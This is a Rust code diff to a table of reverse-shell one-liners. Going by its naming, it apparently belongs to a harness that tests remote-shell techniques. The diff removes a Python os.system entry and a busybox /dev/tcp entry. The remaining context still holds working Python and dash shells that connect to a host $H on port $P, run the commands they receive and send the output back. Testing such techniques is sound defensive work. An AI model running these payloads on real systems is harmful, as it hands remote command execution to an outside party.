@@ -18,7 +18,7 @@ pub const LOOP_INBOUND: Want = Want {
 };
 
 /// What bash runs.
-const POPS: [(&str, &[&str], &str); 31] = [
+const POPS: [(&str, &[&str], &str); 29] = [
     (
         "ruby_popen",
         &["ruby"],
@@ -81,13 +81,6 @@ while 1:
         r#"exec /usr/bin/python3 -c 'import os,shlex,socket,subprocess
 s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
 for l in s.makefile(): s.sendall(subprocess.check_output(shlex.split(l)))'"#,
-    ),
-    (
-        "python_output_to_a_file",
-        &["python3"],
-        r#"exec /usr/bin/python3 -c 'import os,socket
-s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
-for l in s.makefile(): os.system(l.strip()+" >out 2>&1"); s.sendall(open("out","rb").read())'"#,
     ),
     (
         "php_shell_exec",
@@ -198,11 +191,6 @@ s.on("data",d=>{ const [f,...a]=d.toString().trim().split(" "); require("child_p
         "dash_substitution",
         &["dash"],
         r#"exec 3<>/dev/tcp/$H/$P; exec dash -c 'while read -r l <&3; do out=$($l 3<&-); echo "$out" >&3; done'"#,
-    ),
-    (
-        "busybox_substitution",
-        &["busybox"],
-        r#"exec 3<>/dev/tcp/$H/$P; exec busybox sh -c 'while read -r l <&3; do out=$(eval "$l"); echo "$out" >&3; done'"#,
     ),
 ];
 
